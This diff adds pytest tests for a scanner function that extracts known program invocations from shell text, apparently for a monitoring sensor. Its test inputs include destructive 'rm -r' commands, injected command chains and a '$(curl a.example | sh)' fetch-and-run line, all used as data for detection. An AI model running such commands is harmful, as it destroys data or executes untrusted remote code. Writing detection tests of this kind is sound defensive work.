@@ -1,0 +1,35 @@
+"""What a budget left unread is skimmed for known programs."""
+
+from __future__ import annotations
+
+import pytest
+
+from sensor.effects.skim import MAX_PIECES, PER_PROGRAM, pick_pieces
+
+
+@pytest.mark.parametrize(("text", "expected"), [
+    ("word; rm -r x", ["rm -r x"]),
+    ("sudo env A=b nice rm -r x", ["rm -r x"]),
+    ("$(curl a.example | sh)", ["curl a.example", "sh"]),
+    ("bash -c 'rm -r x'", ["rm -r x"]),
+    ("if true; then rm -r x; fi", ["rm -r x"]),
+    ("/bin/rm x", ["/bin/rm x"]),
+    ("echo rm; unknown rm; : ; true", []),
+    ("rm a; rm a; rm a", ["rm a"]),
+    ("x " * 3000 + "rm a", []),
+    ("sudo " * 3000 + "rm a", ["rm a"]),
+])
+def test_pieces(text, expected):
+    assert [piece for _, piece in pick_pieces(text)] == expected
+
+
+def test_offsets_lead_to_the_piece():
+    text = "word; rm -r x | cat y"
+    assert [text[start:].lstrip().startswith(piece) for start, piece in pick_pieces(text)] == [True, True]
+
+
+def test_the_first_and_last_of_each_program_are_looked_at():
+    text = ";".join(f"rm f{number}" for number in range(1000)) + ";curl a.example"
+    pieces = [piece for _, piece in pick_pieces(text)]
+    assert len(pieces) == PER_PROGRAM + 1 and pieces[0] == "rm f0" and pieces[-2:] == ["rm f999", "curl a.example"]
+    assert len(pick_pieces(";".join(f"{name} a" for name in ("rm", "cat", "ls")) * 1000)) <= MAX_PIECES
